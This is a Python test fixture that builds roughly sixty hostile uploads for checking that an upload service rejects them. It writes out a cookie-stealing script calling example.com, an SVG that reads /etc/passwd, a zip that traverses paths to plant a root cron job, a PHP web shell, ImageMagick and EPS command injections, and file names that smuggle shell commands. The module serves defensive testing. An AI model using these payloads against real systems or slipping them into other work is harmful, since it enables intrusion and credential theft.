"""Sixty uploads of which a service must take none: bombs, files that are two things at once, names that are paths,
wrong kinds, cut videos, headers that lie. Some hundred kilobytes at most, written anew for each test."""

from __future__ import annotations

import io
import pickle
import struct
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import cv2
from hostile_files import bombs, clips, damaged, encoded, gif, motion_jpeg, noise, oddities, png, tiff

SCRIPT = b"<script>fetch('http://example.com/' + document.cookie)</script>"


@dataclass(frozen=True)
class HostileUpload:
    name: str
    """As the client calls it."""
    data: bytes
    type: str = "image/jpeg"
    """As the client says."""


def hostile_uploads() -> list[HostileUpload]:
    """At least sixty, each with another name."""
    return [*_wrong_kinds(), *_names(), *_two_things(), *_taken_from_files(), *_films()]


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/cron.d/x", "* * * * * root id\n")
        archive.writestr("bomb", bytes(3_000_000))
    return buffer.getvalue()


def _wrong_kinds() -> list[HostileUpload]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>'
    return [
        HostileUpload("empty.jpg", b""),
        HostileUpload("empty.mp4", b"", "video/mp4"),
        HostileUpload("zeros.png", bytes(5000), "image/png"),
        HostileUpload("text.jpg", b"Dear reader, this is no picture. " * 40),
        HostileUpload("page.jpg", b"<!doctype html>" + SCRIPT),
        HostileUpload("drawing.svg", svg, "image/svg+xml"),
        HostileUpload("drawing.jpg", b"<?xml version='1.0'?>" + svg),
        HostileUpload("paper.pdf", b"%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>> endobj\n", "application/pdf"),
        HostileUpload("script.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n", "application/postscript"),
        HostileUpload("magick.jpg", b"push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://e.com/\"|id\")'\n"),
        HostileUpload("program.jpg", b"MZ\x90\0" + bytes(3000)),
        HostileUpload("library.png", b"\x7fELF\2\1\1" + bytes(3000), "image/png"),
        HostileUpload("shell.jpg", b"#!/bin/sh\nid > /tmp/x\n"),
        HostileUpload("archive.zip", _zip(), "application/zip"),
        HostileUpload("archive.jpg", _zip()),
        HostileUpload("object.png", pickle.dumps({"a": [1, 2, 3]}), "image/png"),
        HostileUpload("playlist.mp4", b"#EXTM3U\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n", "video/mp4"),
        HostileUpload("list.mov", b"ffconcat version 1.0\nfile /etc/passwd\n", "video/quicktime"),
        HostileUpload("raw.dng", tiff({256: (4, 1, 8), 257: (4, 1, 8)}, bytes(400)), "image/x-adobe-dng"),
        HostileUpload("sound.mp3", b"ID3\4\0\0\0\0\0\0" + b"\xff\xfb\x90\x64" * 300, "audio/mpeg"),
    ]


def _names() -> list[HostileUpload]:
    """Whose content is nothing, and whose name would be a path, a command, or too much."""
    names = (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "red\x1b[31m.jpg",
        "\u202egpj.exe",
        "x" * 5000 + ".jpg",
        "<img src=x onerror=alert(1)>.jpg",
        "$(id);`id`.jpg",
    )
    return [HostileUpload(name, f"nothing of this {number}".encode()) for number, name in enumerate(names)]


def _two_things() -> list[HostileUpload]:
    """Begin as a picture or video, go on as something else."""
    jpeg = encoded(noise(), "JPEG")
    return [
        HostileUpload("script.gif", b"GIF89a/*" + b" " * 40 + b"*/=1;" + SCRIPT, "image/gif"),
        HostileUpload("page_in.jpg", jpeg[:20] + SCRIPT * 30),
        HostileUpload("php.png", b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>" * 9, "image/png"),
        HostileUpload("script.bmp", b"BM=1;/*" + SCRIPT * 4 + b"*/", "image/bmp"),
        HostileUpload("zip_in.jpg", jpeg[: len(jpeg) // 2] + _zip()),
        HostileUpload("paper_in.jpg", b"%PDF-1.4\n" + jpeg),
        HostileUpload("page.webp", b"RIFF\x40\0\0\0WEBPVP8 " + SCRIPT, "image/webp"),
        HostileUpload("page.mp4", struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + SCRIPT * 9, "video/mp4"),
    ]


def _taken_from_files() -> list[HostileUpload]:
    """Those of the files that the command line is tested with which no decoder may make a picture of."""
    wanted = (
        *("huge.gif", "huge.webp", "square.png", "claims.png", "zeros_1bit.png", "canvas.apng", "large.bmp"),
        *("most.bmp", "large.ppm", "digits.ppm", "large.tif", "pixels.tif", "large.jpg", "none.jpg", "large.jp2"),
        *("large.avif", "large.heic", "pages.tif", "nothing.tif", "filter.png", "cut50.jpg", "cut90.png"),
        *("cut50.webp", "cut50.heic", "boxes.mp4", "nested.mp4", "head.mkv", "noise.mov", "huge.y4m", "noise.h264"),
    )
    made = dict((*damaged(), *bombs(), *oddities(), *clips()))
    return [HostileUpload(name, made[name], "application/octet-stream") for name in wanted]


def _films() -> list[HostileUpload]:
    """Far too long; and where OpenCV writes films, cut ones."""
    still = b"\x21\xf9\x04\0\x14\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    days = gif(30, 30, 0)[:-1] + still * 60_000 + b";"
    found = [
        HostileUpload("days.gif", days, "image/gif"),
        HostileUpload("strip.png", png(3_000_000, 60, 0, 1), "image/png"),
    ]
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        if "cut.avi" in motion_jpeg(folder):
            found.append(HostileUpload("cut.avi", (folder / "cut.avi").read_bytes(), "video/x-msvideo"))
        path = folder / "whole.mp4"
        writer = cv2.VideoWriter(str(path), cv2.VideoWriter.fourcc(*"mp4v"), 24, (64, 48))
        for _ in range(30):
            writer.write(noise(48, 64))
        writer.release()
        if path.exists() and len(whole := path.read_bytes()) > 1000:
            cut = {share: whole[: len(whole) * share // 100] for share in (30, 70, 95)}
            found += [HostileUpload(f"cut{share}.mp4", data, "video/mp4") for share, data in cut.items()]
    return found
